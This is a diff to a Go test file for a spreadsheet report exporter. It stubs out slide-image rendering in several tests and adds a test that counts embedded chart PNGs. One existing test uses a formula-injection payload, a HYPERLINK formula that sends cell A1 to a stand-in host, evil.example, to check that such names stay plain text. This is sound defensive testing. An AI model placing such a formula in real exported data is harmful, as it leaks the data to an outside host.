@@ -19,6 +19,14 @@ import (
 	"github.com/xuri/excelize/v2"
 )
 
+// withoutImages skips the slide images (slow to render at 300 dpi) in tests
+// about something else.
+func withoutImages(t *testing.T) {
+	old := renderPNG
+	renderPNG = func(*Document, string, string) ([]byte, error) { return nil, nil }
+	t.Cleanup(func() { renderPNG = old })
+}
+
 // writeFake writes the fake document's workbook in lang and opens it.
 func writeFake(t *testing.T, doc *Document, lang string) (*excelize.File, string) {
 	t.Helper()
@@ -81,6 +89,7 @@ func near(t *testing.T, what, got string, want float64) {
 }
 
 func TestWorkbookSheetsAndValues(t *testing.T) {
+	withoutImages(t)
 	doc := fakeDocument()
 	for _, lang := range []string{LangEnglish, LangArabic} {
 		t.Run(lang, func(t *testing.T) {
@@ -286,6 +295,7 @@ func TestWorkbookChartsAndPictures(t *testing.T) {
 }
 
 func TestWorkbookFormulaInjectionStaysText(t *testing.T) {
+	withoutImages(t)
 	doc := fakeDocument()
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	doc.Scenarios[0].Zones[0].Name = evil
@@ -321,6 +331,7 @@ func TestWorkbookFormulaInjectionStaysText(t *testing.T) {
 }
 
 func TestWorkbookEmptySectionsHaveNotes(t *testing.T) {
+	withoutImages(t)
 	doc := fakeDocument()
 	doc.Dependency, doc.BackTest, doc.Supply, doc.Sources, doc.Comparisons = nil, nil, nil, nil, nil
 	doc.Scenarios = doc.Scenarios[:1]
@@ -339,6 +350,7 @@ func TestWorkbookEmptySectionsHaveNotes(t *testing.T) {
 }
 
 func TestWorkbookAtomicWrite(t *testing.T) {
+	withoutImages(t)
 	dir := t.TempDir()
 	path := filepath.Join(dir, "report.xlsx")
 	original := []byte("the user's earlier report")
@@ -397,6 +409,30 @@ func TestWorkbookAtomicWrite(t *testing.T) {
 		t.Errorf("replaced file does not open: %v", err)
 	} else {
 		f.Close()
+	}
+}
+
+// TestWorkbookRealChartImages places the real slide images: one per native
+// chart, plus the heat map, each a PNG inside the package.
+func TestWorkbookRealChartImages(t *testing.T) {
+	f, path := writeFake(t, fakeDocument(), LangArabic)
+	for sheet, want := range map[string]int{tr("ar", "sheet.summary"): 1, tr("ar", "sheet.monthly"): 2, tr("ar", "sheet.imports"): 1} {
+		cells, err := f.GetPictureCells(sheet)
+		if err != nil || len(cells) != want {
+			t.Errorf("%s: pictures at %q, want %d (%v)", sheet, cells, want, err)
+		}
+	}
+	n := 0
+	for name, b := range zipNames(t, path) {
+		if strings.HasPrefix(name, "xl/media/") {
+			n++
+			if cfg, err := png.DecodeConfig(bytes.NewReader(b)); err != nil || cfg.Width < 1000 {
+				t.Errorf("%s: not a slide-size PNG (%v, %d px)", name, err, cfg.Width)
+			}
+		}
+	}
+	if n != 4 {
+		t.Errorf("%d images in the workbook, want 4", n)
 	}
 }
 
